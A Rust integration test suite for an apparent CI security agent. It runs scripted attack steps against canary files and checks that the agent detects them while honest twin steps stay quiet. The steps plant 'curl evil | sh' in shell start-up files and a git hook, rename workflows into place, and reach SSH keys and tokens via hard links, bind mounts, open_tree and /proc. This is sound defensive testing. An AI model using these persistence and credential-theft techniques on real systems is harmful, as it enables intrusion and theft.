//! Writes that never open the final name, end to end: a file renamed over a shell start-up
//! file, `sed -i` (a temporary file renamed over the original), a workflow renamed into
//! `.github/workflows` by a one-component name (its directory is the process's cwd), a whole
//! directory renamed into place, a symlink planted as a start-up file, `git apply` creating a
//! workflow, a git hook written, and a credential hard-linked under an innocent name. Each attack
//! step proves its effect (the file changed, the link reads the key); the twin does the honest
//! versions (`sed -i` and an editor-style save of project files, moves in the workspace, a local
//! `git clone` and `git checkout` that write workflow files, `git config --global`) and must stay
//! quiet.

use std::path::PathBuf;

use std::ffi::CString;

use integration_tests::{by_rule, kind, pid, Agent, FakeRunner, MARKER_STEP};

/// A runner whose home holds a canary ssh key and whose workspace a project file; with the
/// home and the workspace.
fn runner_with_canaries() -> (FakeRunner, PathBuf, PathBuf) {
    let runner = FakeRunner::outside_tmp();
    let (home, w) = (runner.home.clone(), runner.workspace.clone());
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "CANARY-KEY\n").unwrap();
    std::fs::write(w.join("project.txt"), "alpha\n").unwrap();
    (runner, home, w)
}

#[test]
fn writes_by_rename_link_and_symlink_are_persistence() {
    let agent = Agent::start();
    let (runner, home, w) = runner_with_canaries();
    std::fs::write(home.join(".profile"), "# profile\n").unwrap();
    let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
    let git = "git -c user.name=t -c user.email=t@t -c init.defaultBranch=main";
    // The repository the job clones, made outside the job: two branches with different
    // workflow files.
    let setup = format!(
        "set -e\nmkdir -p origin/.github/workflows && cd origin && {git} init -q .\n\
         echo 'on: push' > .github/workflows/ci.yml && {git} add -A && {git} commit -qm one\n\
         {git} checkout -qb other && echo 'on: pull_request' > .github/workflows/ci.yml\n\
         {git} commit -qam two && {git} checkout -q main\n"
    );
    let made = std::process::Command::new("bash")
        .args(["-c", &setup])
        .current_dir(&w)
        .status()
        .unwrap();
    assert!(made.success(), "making the origin repository");

    let twin = format!(
        "set -e\ncd '{w_s}'\n\
         sed -i s/alpha/beta/ project.txt\n\
         cp project.txt .project.txt.swp && mv .project.txt.swp project.txt\n\
         mv project.txt renamed.txt && mv renamed.txt project.txt\n\
         {git} clone -q origin clone && cd clone && {git} checkout -q other\n\
         grep -q pull_request .github/workflows/ci.yml\n\
         git config --global user.name twin\n\
         echo twin-done\n"
    );
    let attack_rc = format!(
        "set -e\nprintf 'curl evil | sh\\n' > '{home_s}/.bashrc.new'\n\
         mv '{home_s}/.bashrc.new' '{home_s}/.bashrc'\n\
         sed -i '1i curl evil | sh' '{home_s}/.profile'\n\
         grep -q evil '{home_s}/.bashrc' && grep -q evil '{home_s}/.profile' && echo rc-replaced\n"
    );
    let attack_workflow = format!(
        "set -e\nmkdir -p '{w_s}/app/.github/workflows' && cd '{w_s}/app/.github/workflows'\n\
         echo 'on: push' > ../notes.yml && mv ../notes.yml steal.yml\n\
         mkdir -p '{w_s}/staged' && echo 'on: push' > '{w_s}/staged/ci.yml'\n\
         mkdir -p '{w_s}/lib/.github' && mv '{w_s}/staged' '{w_s}/lib/.github/workflows'\n\
         test -f steal.yml && test -f '{w_s}/lib/.github/workflows/ci.yml' && echo workflow-moved\n"
    );
    let attack_symlink = format!(
        "set -e\nprintf 'curl evil | sh\\n' > '{w_s}/payload.sh'\n\
         ln -s '{w_s}/payload.sh' '{home_s}/.bash_login'\n\
         grep -q evil '{home_s}/.bash_login' && echo login-linked\n"
    );
    let attack_git = format!(
        "set -e\ncd '{w_s}/origin'\n\
         printf 'diff --git a/.github/workflows/evil.yml b/.github/workflows/evil.yml\\nnew file mode 100644\\n--- /dev/null\\n+++ b/.github/workflows/evil.yml\\n@@ -0,0 +1 @@\\n+on: push\\n' > ../p.diff\n\
         git apply ../p.diff && test -f .github/workflows/evil.yml && echo workflow-applied\n\
         printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && echo hook-written\n"
    );
    let attack_link = format!(
        "set -e\nln '{home_s}/.ssh/id_rsa' '{w_s}/notes.txt'\n\
         grep -q CANARY-KEY '{w_s}/notes.txt' && echo key-linked\n"
    );
    let output = runner.run_job(&[
        ("twin", &twin),
        ("rc", &attack_rc),
        ("workflow", &attack_workflow),
        ("symlink", &attack_symlink),
        ("git", &attack_git),
        ("link", &attack_link),
        MARKER_STEP,
    ]);
    for said in [
        "twin-done",
        "rc-replaced",
        "workflow-moved",
        "login-linked",
        "workflow-applied",
        "hook-written",
        "key-linked",
    ] {
        assert!(output.contains(said), "{said}: {output}");
    }
    let mine = agent.findings_through_marker(&runner);
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "twin"),
        "the twin must stay quiet: {mine:#?}"
    );
    let persistence = by_rule(&mine, "persistence-write");
    let found = |step: &str, path: &str, via: Option<&str>| {
        persistence.iter().any(|f| {
            f["step"]["id"] == step
                && f["evidence"]["path"] == path
                && via.is_none_or(|v| f["evidence"]["via"] == v)
        })
    };
    for (step, path, via) in [
        ("rc", format!("{home_s}/.bashrc"), Some("rename")),
        ("rc", format!("{home_s}/.profile"), Some("rename")),
        (
            "workflow",
            format!("{w_s}/app/.github/workflows/steal.yml"),
            Some("rename"),
        ),
        (
            "workflow",
            format!("{w_s}/lib/.github/workflows"),
            Some("rename"),
        ),
        ("symlink", format!("{home_s}/.bash_login"), Some("symlink")),
        (
            "git",
            format!("{w_s}/origin/.github/workflows/evil.yml"),
            None,
        ),
        ("git", format!("{w_s}/origin/.git/hooks/pre-commit"), None),
    ] {
        assert!(
            found(step, &path, via),
            "{step}: {path} {via:?}: {persistence:#?}"
        );
    }
    let relinked = by_rule(&mine, "credential-relinked");
    assert!(
        relinked.iter().any(|f| f["step"]["id"] == "link"
            && f["evidence"]["path"] == format!("{home_s}/.ssh/id_rsa")
            && f["evidence"]["new_name"] == format!("{w_s}/notes.txt")),
        "{relinked:#?}"
    );
}

/// Another process's memory map and environment through its thread directories
/// (`/proc/PID/task/TID/...`) are the same files; a process reading its own threads' is not.
#[test]
fn proc_thread_directories_are_other_processes_files_too() {
    let agent = Agent::start();
    let runner = FakeRunner::outside_tmp();
    // The step's shell reads the Worker's (its parent's parent) files through the thread
    // directory; the twin, a threaded python, reads a sibling thread's map of its own process.
    let attack = "W=$(awk '{print $4}' /proc/$PPID/stat)\n\
                  grep -c . /proc/$W/task/$W/maps > /dev/null && echo maps-read\n\
                  tr '\\0' '\\n' < /proc/$W/task/$W/environ | grep -q PATH= && echo environ-read\n";
    let twin = "python3 -c '\n\
import threading, os, time\n\
t = threading.Thread(target=time.sleep, args=(1,)); t.start()\n\
tids = [x for x in os.listdir(\"/proc/self/task\") if int(x) != threading.get_native_id()]\n\
open(\"/proc/self/task/%s/maps\" % tids[0]).read(); t.join(); print(\"own-thread-read\")\n'\n";
    let output = runner.run_job(&[("twin", twin), ("attack", attack), MARKER_STEP]);
    for said in ["maps-read", "environ-read", "own-thread-read"] {
        assert!(output.contains(said), "{said}: {output}");
    }
    let mine = agent.findings_through_marker(&runner);
    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
    let attack_findings: Vec<_> = mine
        .iter()
        .filter(|f| f["step"]["id"] == "attack")
        .collect();
    for (rule, file) in [
        ("process-memory-read", "/maps"),
        ("process-environ-read", "/environ"),
    ] {
        assert!(
            attack_findings.iter().any(|f| f["rule"] == rule
                && f["evidence"]["path"]
                    .as_str()
                    .is_some_and(|p| p.contains("/task/") && p.ends_with(file))),
            "{rule}: {attack_findings:#?}"
        );
    }
}

/// A credential reached by a name no rule knows is still that credential: the kernel knows the
/// watched files by device and inode. Routes: a bind mount of the key's directory and one of the
/// token file over an innocent name (in a private mount namespace), a detached mount tree
/// (`open_tree(OPEN_TREE_CLONE)`, whose paths start at `/`), and hard links made before the job
/// (one read, one to `~/.bashrc` appended to).
/// Each step proves it read the canary; the twin reads project files through a bind mount.
#[test]
fn credentials_by_another_name_are_known_by_identity() {
    let (runner, home, w) = runner_with_canaries();
    std::fs::write(home.join(".npmrc"), "//registry/:_authToken=CANARY-TOKEN\n").unwrap();
    std::fs::hard_link(home.join(".npmrc"), w.join("old-notes.txt")).unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::hard_link(home.join(".bashrc"), w.join("old-rc.txt")).unwrap();
    // The runner's home, as a deployment whose runner user is not in /etc/passwd names it: its
    // files are watched by identity before the job starts (a home first seen in a job is
    // watched from the job's first events the agent has read).
    let agent = Agent::start_with(&["--watch-home", &home.display().to_string()]);
    let (home_s, w_s) = (home.display().to_string(), w.display().to_string());

    let twin = format!(
        "set -e\nmkdir -p '{w_s}/view'\n\
         unshare -m sh -c \"mount --bind '{w_s}' '{w_s}/view' && cat '{w_s}/view/project.txt'\" > /dev/null\n\
         echo twin-done\n"
    );
    let bind = format!(
        "set -e\nmkdir -p '{w_s}/keys' && touch '{w_s}/notes.txt'\n\
         unshare -m sh -c \"mount --bind '{home_s}/.ssh' '{w_s}/keys' && mount --bind '{home_s}/.npmrc' '{w_s}/notes.txt' && cat '{w_s}/keys/id_rsa' '{w_s}/notes.txt'\" | grep -c CANARY | grep -q 2 && echo bind-read\n"
    );
    let tree = format!(
        "python3 -c '\n\
import ctypes, os\n\
libc = ctypes.CDLL(None, use_errno=True)\n\
fd = libc.syscall(428, -100, b\"{home_s}/.ssh\", 1 | 0x8000)\n\
assert fd >= 0, ctypes.get_errno()\n\
f = os.open(\"id_rsa\", os.O_RDONLY, dir_fd=fd)\n\
print(os.read(f, 100).decode().strip(), os.readlink(\"/proc/self/fd/%d\" % f))\n' | grep -q 'CANARY-KEY /id_rsa' && echo tree-read\n"
    );
    // A credential the job itself made (as setup actions do) is known by identity soon after.
    let fresh = format!(
        "printf '[pypi]\\npassword = CANARY-PYPI\\n' > '{home_s}/.pypirc'\n\
         touch '{w_s}/n2.txt'\n\
         unshare -m sh -c \"mount --bind '{home_s}/.pypirc' '{w_s}/n2.txt' && cat '{w_s}/n2.txt'\" | grep -q CANARY-PYPI && echo fresh-read\n"
    );
    let link = format!(
        "grep -q CANARY-TOKEN '{w_s}/old-notes.txt' && echo link-read\n\
         echo 'curl evil | sh' >> '{w_s}/old-rc.txt' && grep -q evil '{home_s}/.bashrc' && echo rc-appended\n"
    );
    let output = runner.run_job(&[
        ("twin", &twin),
        ("bind", &bind),
        ("tree", &tree),
        ("fresh", &fresh),
        ("link", &link),
        MARKER_STEP,
    ]);
    for said in [
        "twin-done",
        "bind-read",
        "tree-read",
        "fresh-read",
        "link-read",
        "rc-appended",
    ] {
        assert!(output.contains(said), "{said}: {output}");
    }
    let mine = agent.findings_through_marker(&runner);
    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
    let reads = by_rule(&mine, "credential-read");
    for (step, path, opened_as) in [
        (
            "bind",
            format!("{home_s}/.ssh/id_rsa"),
            format!("{w_s}/keys/id_rsa"),
        ),
        (
            "bind",
            format!("{home_s}/.npmrc"),
            format!("{w_s}/notes.txt"),
        ),
        (
            "tree",
            format!("{home_s}/.ssh/id_rsa"),
            "/id_rsa".to_string(),
        ),
        (
            "fresh",
            format!("{home_s}/.pypirc"),
            format!("{w_s}/n2.txt"),
        ),
        (
            "link",
            format!("{home_s}/.npmrc"),
            format!("{w_s}/old-notes.txt"),
        ),
    ] {
        assert!(
            reads.iter().any(|f| f["step"]["id"] == step
                && f["evidence"]["path"] == path
                && f["evidence"]["opened_as"] == opened_as),
            "{step}: {path} as {opened_as}: {reads:#?}"
        );
    }
    // A start-up file appended through a hard link is a write of the start-up file.
    assert!(
        by_rule(&mine, "persistence-write")
            .iter()
            .any(|f| f["step"]["id"] == "link"
                && f["evidence"]["path"] == format!("{home_s}/.bashrc")
                && f["evidence"]["opened_as"] == format!("{w_s}/old-rc.txt")),
        "{mine:#?}"
    );
}

/// A tool owns a credential by what it is, not by what it is called: a copy of `cat` named
/// `npm` reading `~/.npmrc`, git reading an ssh key (ssh owns them, not git) or printing its
/// credential store because the command line names it, and a copy of `ps` listing environments
/// are findings; the installed npm reading its own `.npmrc`, git's credential helper reading
/// its store and the installed `ps aux` are not.
#[test]
fn tools_own_credentials_by_what_they_are_not_what_they_are_called() {
    let agent = Agent::start();
    let (runner, home, w) = runner_with_canaries();
    std::fs::write(home.join(".npmrc"), "//registry/:_authToken=CANARY-TOKEN\n").unwrap();
    std::fs::write(
        home.join(".git-credentials"),
        "https://u:CANARY-GIT@example.invalid\n",
    )
    .unwrap();
    let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
    // git's credential helper reading the store it was configured with is git's own use.
    let twin = format!(
        "npm config get registry --offline >/dev/null && ps aux >/dev/null\n\
         printf 'protocol=https\\nhost=example.invalid\\n\\n' | git credential-store --file '{home_s}/.git-credentials' get | grep -q CANARY-GIT\n\
         echo twin-done\n"
    );
    let renamed = format!(
        "cp /bin/cat '{w_s}/npm' && '{w_s}/npm' '{home_s}/.npmrc' | grep -q CANARY-TOKEN && echo renamed-read\n"
    );
    // git owns no ssh key, and owns its credential store only for its own use: told to print
    // it, it is a reader like any other.
    let git = format!(
        "(git diff --no-index /dev/null '{home_s}/.ssh/id_rsa' || true) | grep -q CANARY-KEY && echo git-read\n\
         (git diff --no-index /dev/null '{home_s}/.git-credentials' || true) | grep -q CANARY-GIT && echo git-store-read\n"
    );
    let lister = format!(
        "cp \"$(command -v ps)\" '{w_s}/ps' && '{w_s}/ps' aux | grep -q . && echo copied-ps-ran\n"
    );
    let output = runner.run_job(&[
        ("twin", &twin),
        ("renamed", &renamed),
        ("git", &git),
        ("lister", &lister),
        MARKER_STEP,
    ]);
    for said in [
        "twin-done",
        "renamed-read",
        "git-read",
        "git-store-read",
        "copied-ps-ran",
    ] {
        assert!(output.contains(said), "{said}: {output}");
    }
    let mine = agent.findings_through_marker(&runner);
    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
    let has = |step: &str, rule: &str, path: &str| {
        mine.iter().any(|f| {
            f["step"]["id"] == step
                && f["rule"] == rule
                && f["evidence"]["path"]
                    .as_str()
                    .is_some_and(|p| p.ends_with(path))
        })
    };
    assert!(has("renamed", "credential-read", "/.npmrc"), "{mine:#?}");
    assert!(has("git", "credential-read", "/.ssh/id_rsa"), "{mine:#?}");
    assert!(
        has("git", "credential-read", "/.git-credentials"),
        "{mine:#?}"
    );
    assert!(
        has("lister", "process-environ-read", "/environ"),
        "{mine:#?}"
    );
}

/// A credential's identity follows its inode: a hard link made before the job whose original
/// the job then removes is still the key, read at once or after the agent has read the home
/// again (`credential-read`). (Its twin, a removed key's number given to a new file, is in
/// `ci_native.rs`: it needs a file system that reuses inode numbers at once, as a fresh ext4 of
/// its own does and the kernel-tier VM's root does not.)
#[test]
fn a_removed_credentials_identity_follows_its_inode() {
    let (runner, home, w) = runner_with_canaries();
    std::fs::write(home.join(".npmrc"), "//registry/:_authToken=CANARY-TOKEN\n").unwrap();
    std::fs::hard_link(home.join(".npmrc"), w.join("kept.txt")).unwrap();
    let agent = Agent::start_with(&["--watch-home", &home.display().to_string()]);
    let (home_s, w_s) = (home.display().to_string(), w.display().to_string());
    let orphan = format!(
        "rm '{home_s}/.npmrc'\n\
         grep -q CANARY-TOKEN '{w_s}/kept.txt' && echo orphan-read\n"
    );
    // After the agent has read the home again (every 10 s) and found the name gone.
    let later =
        format!("sleep 12\ngrep -q CANARY-TOKEN '{w_s}/kept.txt' && echo orphan-read-later\n");
    let output = runner.run_job(&[("orphan", &orphan), ("later", &later), MARKER_STEP]);
    for said in ["orphan-read", "orphan-read-later"] {
        assert!(output.contains(said), "{said}: {output}");
    }
    let mine = agent.findings_through_marker(&runner);
    for step in ["orphan", "later"] {
        assert!(
            by_rule(&mine, "credential-read")
                .iter()
                .any(|f| f["step"]["id"] == step
                    && f["evidence"]["path"] == format!("{home_s}/.npmrc")
                    && f["evidence"]["opened_as"] == format!("{w_s}/kept.txt")),
            "{step}: {mine:#?}"
        );
    }
}

/// A watched name removed, by each route: io_uring's UNLINKAT (the kernel's own copy of the
/// name) and `unlinkat` relative to a directory descriptor (the kernel resolves the directory).
/// An unwatched name removed the same way makes no record. On kernels with the security hooks
/// both are seen there (`via` says which hook).
#[test]
fn unlinks_of_watched_names_are_seen_by_every_route() {
    use io_uring::{opcode, types, IoUring};
    let agent = Agent::start();
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::write(
        root.join(".npmrc"),
        "//registry.example/:_authToken=canary\n",
    )
    .unwrap();
    std::fs::write(root.join("plain-unwatched.txt"), "x").unwrap();
    std::fs::write(root.join(".bashrc"), "x\n").unwrap();
    let c = |p: &std::path::Path| CString::new(p.to_str().unwrap()).unwrap();
    let npmrc_c = c(&root.join(".npmrc"));
    let mut ring = IoUring::new(4).expect("io_uring (kernel.io_uring_disabled must be 0)");
    let unlink = opcode::UnlinkAt::new(types::Fd(libc::AT_FDCWD), npmrc_c.as_ptr()).build();
    // SAFETY: the name outlives the submission, which completes before we go on.
    unsafe { ring.submission().push(&unlink).unwrap() };
    ring.submit_and_wait(1).unwrap();
    let cqe = ring.completion().next().expect("completion");
    assert_eq!(cqe.result(), 0, "io_uring unlink failed");
    let dir_fd = std::fs::File::open(&root).unwrap();
    let name = CString::new(".bashrc").unwrap();
    let plain = CString::new("plain-unwatched.txt").unwrap();
    use std::os::fd::AsRawFd as _;
    // SAFETY: valid directory descriptor and NUL-terminated names.
    for n in [&name, &plain] {
        assert_eq!(
            unsafe { libc::unlinkat(dir_fd.as_raw_fd(), n.as_ptr(), 0) },
            0
        );
    }
    // All three happened.
    for gone in [".npmrc", ".bashrc", "plain-unwatched.txt"] {
        assert!(!root.join(gone).exists(), "{gone}");
    }
    let me = std::process::id() as u64;
    let by_ring = agent.wait_for("io_uring unlink of .npmrc", |e| {
        kind(e) == "name"
            && pid(e) == me
            && e["op"] == "unlink"
            && e["path"].as_str().is_some_and(|p| p.ends_with(".npmrc"))
    });
    assert_eq!(by_ring["path"], root.join(".npmrc").to_str().unwrap());
    let by_call = agent.wait_for("unlinkat of .bashrc", |e| {
        kind(e) == "name"
            && pid(e) == me
            && e["op"] == "unlink"
            && e["path"].as_str().is_some_and(|p| p.ends_with(".bashrc"))
    });
    assert_eq!(by_call["path"], root.join(".bashrc").to_str().unwrap());
    assert!(by_call.get("from").is_none(), "{by_call}");
    assert!(!agent.events().iter().any(|e| kind(e) == "name"
        && e["path"]
            .as_str()
            .is_some_and(|p| p.ends_with("plain-unwatched.txt"))));
}
